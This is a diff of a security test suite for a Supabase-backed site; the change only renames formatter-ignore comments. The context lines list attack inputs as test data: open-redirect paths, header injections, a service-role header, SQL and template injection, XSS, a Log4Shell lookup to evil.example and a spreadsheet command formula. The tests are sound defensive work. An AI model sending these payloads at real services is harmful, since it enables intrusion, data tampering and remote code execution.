@@ -105,12 +105,12 @@ const operatorPaths: Attack[] = [
     { name: `calls ${name}`, request: { path: `/rest/v1/rpc/${name}`, ...json({}) }, outcome: "refused" },
     { name: `calls ${name} with arguments`, request: { path: `/rest/v1/rpc/${name}`, ...json({ wanted: { emails: ["a@b.c"] } }) }, outcome: "refused" },
   ]),
-]; // prettier-ignore
+]; // oxfmt-ignore
 
 const redirects: Attack[] = [
   "//evil.example", "/\\evil.example", "/%2f%2fevil.example", "/%5cevil.example", "//evil.example/..", "//evil.example/about/", "/about//evil.example/",
   "/about/?next=//evil.example", "/https://evil.example/", "/.evil.example/", "/about/%0d%0aLocation:%20https://evil.example", "/about%0d%0aset-cookie:a=b/", "/index.html?//evil.example",
-].map((path): Attack => ({ name: `is led by ${path}`, request: get(path), outcome: "harmless" })); // prettier-ignore
+].map((path): Attack => ({ name: `is led by ${path}`, request: get(path), outcome: "harmless" })); // oxfmt-ignore
 
 const headers: Attack[] = [
   ...["Host: evil.example", "X-Forwarded-Host: evil.example", "X-Original-URL: /.env", "X-Rewrite-URL: /.env", "Forwarded: host=evil.example", "X-Forwarded-Proto: https", "Origin: https://evil.example",
@@ -120,7 +120,7 @@ const headers: Attack[] = [
   ...["X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X-Method-Override: PATCH", "Accept-Profile: private", "Accept: application/vnd.pgrst.plan+json", "Accept: text/csv",
     "Prefer: count=exact", "Prefer: tx=rollback", "Range: 0-10", "X-Client-Info: '; drop table x; --", "Authorization: Basic YTpi", "Authorization: Bearer", "X-Supabase-Role: service_role",
   ].map((line): Attack => ({ name: `reads rows with ${line}`, request: get(`${rows}?select=*`, line), outcome: "refused" })),
-]; // prettier-ignore
+]; // oxfmt-ignore
 
 const methods: Attack[] = [
   ...["TRACE", "PUT", "DELETE", "PATCH", "PROPFIND", "MKCOL", "MOVE", "SEARCH", "PURGE", "LOCK"].map(
@@ -146,7 +146,7 @@ const queries: Attack[] = [
   ...["?on_conflict=id", "?on_conflict=email", "?columns=id,status", "?columns=spam_score", "?columns=created_at,email,source", '?columns=%22email%22%22%22', "?select=*"].map(
     (query): Attack => ({ name: `writes rows by ${query}`, request: { path: rows + query, ...json(lead, query.startsWith("?on") ? ["prefer: resolution=merge-duplicates"] : query.startsWith("?select") ? ["prefer: return=representation"] : []) }, outcome: "refused" }),
   ),
-]; // prettier-ignore
+]; // oxfmt-ignore
 
 const text = JSON.stringify(lead);
 const bodies: Attack[] = [
@@ -183,7 +183,7 @@ const bodies: Attack[] = [
   ...["<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "=cmd|'/c calc'!A1", "'; drop table contact_submissions; --", "\\u202egnp.exe"].map(
     (name): Attack => ({ name: `is called ${name}`, request: { path: rows, ...json(text.replace("Dana", name)) }, outcome: "stored" }),
   ),
-]; // prettier-ignore
+]; // oxfmt-ignore
 
 const object = "/storage/v1/object";
 const storage: Attack[] = [
@@ -197,7 +197,7 @@ const storage: Attack[] = [
   ...["/storage/v1/bucket", "/storage/v1/bucket/resumes", "/storage/v1/bucket/resumes/empty", "/storage/v1/s3/resumes", "/storage/v1/upload/resumable", "/storage/v1/render/image/public/resumes/x", "/storage/v1/iceberg/v1/config", "/storage/v1/"].map(
     (path): Attack => ({ name: `asks storage for ${path}`, request: { path, ...json({ id: "x", name: "x", public: true }) }, outcome: "refused" }),
   ),
-]; // prettier-ignore
+]; // oxfmt-ignore
 
 export const attacks: readonly Attack[] = [
   ...files,
